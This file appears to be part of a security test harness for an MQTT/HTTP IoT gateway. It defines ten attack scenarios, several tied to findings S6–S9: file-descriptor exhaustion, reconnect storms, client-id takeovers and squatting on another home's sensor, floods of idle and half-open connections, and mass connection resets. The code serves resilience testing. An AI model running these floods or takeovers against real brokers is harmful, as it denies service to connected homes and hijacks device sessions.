import type { Attack } from '../attack.js';
import type { Field } from '../attacker/field.js';
import { connectBytes, MqttSocket, Wire } from '../mqtt-socket.js';
import { asClient } from '../site.js';
import { connectDevice, connectToken } from './packets.js';

const MAX_OPEN_FILES = 2_048;
const OPEN_FILES_USED = 2_019;
const IDLE_ADDRESSES = 11;
const IDLE_EACH = 1_000;
const MANY_ADDRESSES = 1_000;
const FROM_EACH = 5;
const HALF_OPEN = 5_000;
const RESET_TOGETHER = 900;
const AT_A_TIME = 50;
/** How long to wait before opening an ended connection again. */
const RETRY_MS = 500;

/** Keeps this many connections open, and reopens each one that ends. */
async function hold(
  field: Field,
  count: number,
  open: (index: number) => Promise<Wire>,
): Promise<void> {
  let opening = 0;
  await field.repeat(count, async (index) => {
    // All together they would only fill the listen queue.
    while (opening >= AT_A_TIME && !field.isOver) await field.pause(10);
    opening++;
    const wire = await open(index).finally(() => {
      opening--;
    });
    await wire.closed;
    field.count('ended');
    await field.pause(RETRY_MS);
  });
}

async function dial(field: Field, listener: 'mqtt' | 'http', index: number): Promise<Wire> {
  const wire = new Wire(field.endpoint(listener, index));
  wire.socket.resume();
  if (!(await wire.opened())) throw new Error('not connected');
  field.count('opened');
  return wire;
}

const openFiles: Attack = {
  name: 'open-files',
  finding: 'S6',
  surface: 'mqtt',
  what: 'one device opens 2,019 MQTT connections to a gateway with 2,048 file descriptors',
  isForMosquitto: false,
  needs: () => ({ maxOpenFiles: MAX_OPEN_FILES }),
  arm: (site) => site.arms(1),
  run: (field) =>
    hold(field, OPEN_FILES_USED, async (index) => (await connectDevice(field, index)).wire),
};

const manySessions: Attack = {
  name: 'many-sessions',
  finding: 'S7',
  surface: 'mqtt',
  what: 'one token opens persistent sessions over 20 connections as fast as it can, while /metrics is scraped each second',
  isForMosquitto: true,
  arm: (site) => site.arms(0, 1),
  run: async (field) => {
    let next = 0;
    const scrape = field.repeat(field.has('http') ? 1 : 0, async () => {
      await field.pause(1_000);
      const { port } = field.endpoint('http');
      await (await fetch(`http://127.0.0.1:${port}/metrics`)).arrayBuffer();
    });
    const open = field.repeat(20, async () => {
      const mqtt = await connectToken(field, next++, { clean: false });
      await mqtt.end();
    });
    await Promise.all([open, scrape]);
  },
};

const reconnectStorm: Attack = {
  name: 'reconnect-storm',
  surface: 'mqtt',
  what: 'one device connects and hangs up again without a pause, 50 connections at a time',
  isForMosquitto: true,
  arm: (site) => site.arms(1),
  run: (field) =>
    field.repeat(50, async (index) => {
      const mqtt = await connectDevice(field, index);
      mqtt.wire.cut();
    }),
};

const takeovers: Attack = {
  name: 'takeovers',
  surface: 'mqtt',
  what: 'one device connects again and again under one client id, 20 connections at a time, each of which ends another [MQTT-3.1.4-2]',
  isForMosquitto: true,
  arm: (site) => site.arms(1),
  run: (field) =>
    field.repeat(20, async (index) => {
      const [device] = field.arms.devices;
      if (device === undefined) return;
      const mqtt = await MqttSocket.connect(field.endpoint('mqtt', index), device);
      field.count(mqtt === undefined ? 'refused' : 'connected');
      await mqtt?.wire.closed;
    }),
};

const squatting: Attack = {
  name: 'client-id-squatting',
  finding: 'S8',
  surface: 'mqtt',
  what: "a device takes the client ids of another home's sensor, between two of its connections, and of its absent subscriber",
  isForMosquitto: false,
  isDurableAway: true,
  isUnnamed: true,
  arm: async (site) => {
    const arms = await site.arms(1);
    return { ...arms, texts: { newcomerId: site.newcomer().clientId } };
  },
  run: (field) =>
    field.repeat(4, async (index) => {
      const [device] = field.arms.devices;
      if (device === undefined) return;
      const clientId = index % 2 === 0 ? field.text('newcomerId') : 'durable';
      const login = asClient(device, clientId);
      const mqtt = await MqttSocket.connect(field.endpoint('mqtt', index), login, { clean: false });
      field.count(mqtt === undefined ? 'refused' : 'connected');
      await field.pause(50);
      mqtt?.wire.cut();
    }),
};

const idleHttp: Attack = {
  name: 'idle-http',
  finding: 'S9',
  surface: 'http',
  what: '11 addresses hold 1,000 idle HTTP connections each',
  isForMosquitto: false,
  addresses: IDLE_ADDRESSES,
  arm: (site) => site.arms(0),
  run: (field) => hold(field, IDLE_ADDRESSES * IDLE_EACH, (index) => dial(field, 'http', index)),
};

const idleMqtt: Attack = {
  name: 'idle-mqtt',
  surface: 'mqtt',
  what: '1,000 addresses hold 5 MQTT connections each on which no CONNECT ever comes',
  isForMosquitto: false,
  addresses: MANY_ADDRESSES,
  arm: (site) => site.arms(0),
  run: (field) => hold(field, MANY_ADDRESSES * FROM_EACH, (index) => dial(field, 'mqtt', index)),
};

const oneAddress: Attack = {
  name: 'one-address',
  surface: 'mqtt',
  what: 'one address opens MQTT connections as fast as it can, 500 at a time, without a CONNECT',
  isForMosquitto: false,
  addresses: 1,
  arm: (site) => site.arms(0),
  run: (field) =>
    field.repeat(500, async (index) => {
      const wire = await dial(field, 'mqtt', index);
      await Promise.race([wire.closed, field.pause(200)]);
      wire.cut();
    }),
};

const halfOpen: Attack = {
  name: 'half-open',
  surface: 'mqtt',
  what: `${HALF_OPEN.toLocaleString('en')} connections from loopback stop in the middle of CONNECT`,
  isForMosquitto: true,
  arm: (site) => site.arms(0),
  run: (field) =>
    hold(field, HALF_OPEN, async (index) => {
      const wire = await dial(field, 'mqtt', index);
      const login = { clientId: `half-${index}`, username: 'half', password: 'open' };
      await wire.write(connectBytes(login).subarray(0, 12));
      return wire;
    }),
};

const resets: Attack = {
  name: 'resets',
  surface: 'mqtt',
  what: `one token connects ${RESET_TOGETHER} times and resets all of these connections at once, again and again`,
  isForMosquitto: true,
  arm: (site) => site.arms(0, 1),
  run: (field) =>
    field.repeat(1, async () => {
      const open: MqttSocket[] = [];
      while (open.length < RESET_TOGETHER && !field.isOver) {
        const indexes = Array.from({ length: AT_A_TIME }, (_, index) => open.length + index);
        open.push(...(await Promise.all(indexes.map((index) => connectToken(field, index)))));
      }
      for (const mqtt of open) mqtt.wire.cut();
      field.count('reset', open.length);
    }),
};

export const CONNECTIONS: readonly Attack[] = [
  openFiles,
  manySessions,
  reconnectStorm,
  takeovers,
  squatting,
  idleHttp,
  idleMqtt,
  oneAddress,
  halfOpen,
  resets,
];
